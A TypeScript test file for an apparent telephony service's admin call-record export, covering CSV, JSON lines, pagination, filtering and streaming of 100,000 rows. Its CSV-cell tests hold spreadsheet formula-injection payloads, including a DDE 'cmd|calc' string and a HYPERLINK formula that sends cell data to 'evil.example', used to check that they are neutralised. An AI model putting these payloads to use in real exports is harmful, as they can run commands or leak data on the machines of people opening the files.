/** Call records for accounting: all projects, as CSV, JSON lines and pages; and formula-safe cells. */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/base/core/csv.ts';
import type { JsonObject } from '../../src/base/core/json.ts';
import { openSqliteStore } from '../../src/service/store/sqlite/store.ts';
import { recordOf, writeOf } from '../contracts/store/call-fixtures.ts';
import { createMemoryStore } from '../memory-store.ts';
import { type Administrator, administered, TOKEN } from './admin-client.ts';
import { type ApiRig, OTHER } from './rig.ts';

const fetchAs = (rig: ApiRig, accept: string, query = '') =>
  fetch(`${rig.base}/admin/v1/calls${query}`, { headers: { authorization: `Bearer ${TOKEN}`, accept } });

const tableOf = async (rig: ApiRig, query = ''): Promise<Record<string, string>[]> =>
  parse(await (await fetchAs(rig, 'text/csv', query)).text(), { columns: true, record_delimiter: '\r\n' });

const idsIn = ({ body }: { body: JsonObject }) => (body['calls'] as JsonObject[]).map(({ voice_id }) => voice_id);

async function withCalls() {
  const { rig, admin } = await administered();
  const shop = await rig.dial({ to: '+33612345678', owner_ref: 'order 7' });
  await rig.pass(2000);
  rig.farEnd('+33612345678').hangUp();
  await rig.pass(1000);
  const { body } = await rig.request('POST', '/voice/v1/call', { from: '3000', to: '4000' }, { as: OTHER });
  await rig.pass(1000);
  return { rig, admin, shop, other: String(body['voice_id']) };
}

describe('the calls of all projects', () => {
  it('returns CSV: a header, then a row for each call, newest first', async () => {
    const { rig, shop, other } = await withCalls();
    const answer = await fetchAs(rig, 'text/csv');
    expect([answer.status, answer.headers.get('content-type'), answer.headers.get('content-disposition')]).toEqual([
      ...[200, 'text/csv; charset=utf-8; header=present', 'attachment; filename="calls.csv"'],
    ]);
    expect((await answer.text()).split('\r\n')).toHaveLength(4);
    const [live, ended] = await tableOf(rig);
    expect(live).toMatchObject({ voice_id: other, app_id: 'other', direction: 'Outbound', ended: '' });
    expect(ended).toMatchObject({
      ...{ voice_id: shop, app_id: 'shop', from: '1000', to: '+33612345678', owner_ref: 'order 7' },
      ...{ call_duration: '1', disconnect_cause_code: '16', hangup_by: 'callee', bridges: '0' },
    });
  });

  it('returns JSON lines, with fields that CSV leaves out', async () => {
    const { rig, shop, other } = await withCalls();
    const answer = await fetchAs(rig, 'application/x-ndjson');
    const lines = (await answer.text()).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => (JSON.parse(line) as JsonObject)['voice_id'])).toEqual([other, shop]);
    expect(await (await fetchAs(rig, '*/*', '?format=ndjson')).text()).toBe(`${lines.join('\n')}\n`);
  });

  it('returns JSON pages, filtered by project, time and any participating number', async () => {
    const { rig, admin, shop, other } = await withCalls();
    const ids = async (query: string) => idsIn(await admin('GET', `/calls${query}`));
    const first = await admin('GET', '/calls?limit=1');
    expect(idsIn(first)).toEqual([other]);
    const second = await admin('GET', `/calls?limit=1&cursor=${first.body['next']}`);
    expect([idsIn(second), second.body['next']]).toEqual([[shop], undefined]);
    expect(await ids('?project=shop')).toEqual([shop]);
    expect(await ids('?project=nobody')).toEqual([]);
    for (const written of ['%2B33612345678', '+33612345678', '33%206%2012%2034%2056%2078'])
      expect(await ids(`?number=${written}`)).toEqual([shop]);
    expect(await ids('?state=live')).toEqual([other]);
    const [{ started } = {}] = (await admin('GET', '/calls?project=other')).body['calls'] as { started?: string }[];
    expect(await ids(`?since=${started}`)).toEqual([other]);
    expect(await ids(`?until=${started}`)).toEqual([shop]);
    const bridge = await rig.request(
      'PUT',
      `/voice/v1/call/${other}/connect`,
      { from: '3000', to: '5000' },
      { as: OTHER },
    );
    expect(bridge.status).toBe(200);
    await rig.pass(3000);
    expect(await ids('?number=5000')).toEqual([other]);
    expect((await tableOf(rig))[0]).toMatchObject({ bridges: '1', bridge_to: '5000' });
  });

  it.each(['?cursor=x', '?since=yesterday', '?limit=0', '?format=pdf', '?project[]=1', '?to=1'])(
    'rejects %s with a hint',
    async (query) => {
      const { admin } = await administered();
      const { status, body } = await admin('GET', `/calls${query}`);
      expect([status, typeof body['hint']]).toEqual([400, 'string']);
    },
  );

  it('includes route, gateway, SIP status and Call-ID, also of the bridged party', async () => {
    const store = createMemoryStore();
    const sip = {
      callId: 'abc@host',
      route: 'france',
      gateway: 'sip:carrier.example:5060',
      status: 486,
      postDialMs: 812,
    };
    const bridge = { to: '+33611111111', startedMs: 5, endedMs: 9, sip: { ...sip, status: 200 } };
    const recordings = [{ recordingId: 'r-1' }, { recordingId: 'r-2' }];
    const { rig } = await administered({ store });
    const record = recordOf('call-1', {
      sip,
      bridges: [bridge],
      recordings,
      hangupBy: 'callee',
      endedMs: rig.clock.now(),
    });
    await store.calls.commit(writeOf('call-1', [1], { record }));
    expect(await tableOf(rig)).toMatchObject([
      {
        ...{ route: 'france', gateway: 'sip:carrier.example:5060', sip_status: '486', sip_call_id: 'abc@host' },
        ...{ post_dial_ms: '812', hangup_by: 'callee', recording_ids: 'r-1 r-2' },
        ...{ bridge_to: '+33611111111', bridge_route: 'france', bridge_sip_status: '200' },
      },
    ]);
  });
});

describe('CSV cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['+33 6 12', "'+33 6 12"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['=HYPERLINK("http://evil","x")', '"\'=HYPERLINK(""http://evil"",""x"")"'],
    ['+33612345678', '+33612345678'],
    ['-5', '-5'],
    ['a,b', '"a,b"'],
    ['two\nlines', '"two\nlines"'],
    ['say "hi"', '"say ""hi"""'],
  ])('%j is written as %j: no formula, and numbers as they are', (text, cell) => {
    expect(csvLine([text])).toBe(cell);
  });

  it('neutralises formulas in text of callers and clients', async () => {
    const { rig } = await administered();
    await rig.dial({ owner_ref: '=HYPERLINK("http://evil.example/?"&A1,"open")' });
    rig.call('1000', '=cmd|calc');
    await rig.pass(500);
    const cells = (await tableOf(rig)).flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => cell.includes('evil') || cell.includes('calc'))).toHaveLength(2);
    expect(cells.filter((cell) => /^[=@\t\r]/.test(cell) || /^[+-](?!\d+$)/.test(cell))).toEqual([]);
  });
});

describe('an export of 100,000 calls', () => {
  const COUNT = 100_000;

  async function filled(): Promise<{ rig: ApiRig; admin: Administrator; largest: () => number }> {
    const file = join(mkdtempSync(join(tmpdir(), 'callweave-export-')), 'callweave.db');
    let largest = 0;
    const { rig, admin } = await administered({
      storeOn(clock) {
        const store = openSqliteStore({ file, clock });
        const { list } = store.calls;
        store.calls.list = (query) => {
          largest = Math.max(largest, query.limit);
          return list(query);
        };
        return store;
      },
    });
    const record = JSON.stringify(recordOf('call', { state: 'disconnected' }));
    using database = new DatabaseSync(file);
    database
      .prepare(
        `INSERT INTO calls (call_id, project_id, started_ms, ended_ms, last_seq, record, checkpoint)
         WITH RECURSIVE count (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM count WHERE n < ?)
         SELECT 'call-' || n, 'shop', ? + n, ? + n, 0, json_set(?, '$.callId', 'call-' || n), '{}' FROM count`,
      )
      .run(COUNT, rig.clock.now(), rig.clock.now(), record);
    return { rig, admin, largest: () => largest };
  }

  it('streams in small pages at the speed of the reader, with constant memory', async () => {
    const { rig, admin, largest } = await filled();
    const before = process.memoryUsage();
    const answer = await fetchAs(rig, 'text/csv');
    const seen = new Set<string>();
    let [rest, lines, peak, others] = ['', 0, 0, 0];
    for await (const chunk of answer.body!.pipeThrough(new TextDecoderStream())) {
      const found = (rest + chunk).split('\r\n');
      rest = found.pop()!;
      for (const line of found) seen.add(line.slice(0, line.indexOf(',')));
      lines += found.length;
      const { heapUsed, external } = process.memoryUsage();
      peak = Math.max(peak, heapUsed + external - before.heapUsed - before.external);
      // Another client sends requests during the export and gets its answers during it.
      if (others < 5 && lines > others * 10_000) {
        expect((await admin('GET', '/drain')).status).toBe(200);
        others += 1;
      }
    }
    expect([lines, seen.size, others]).toEqual([COUNT + 1, COUNT + 1, 5]);
    expect(largest()).toBeLessThanOrEqual(200);
    expect(peak).toBeLessThan(120 * 2 ** 20);
  });
});
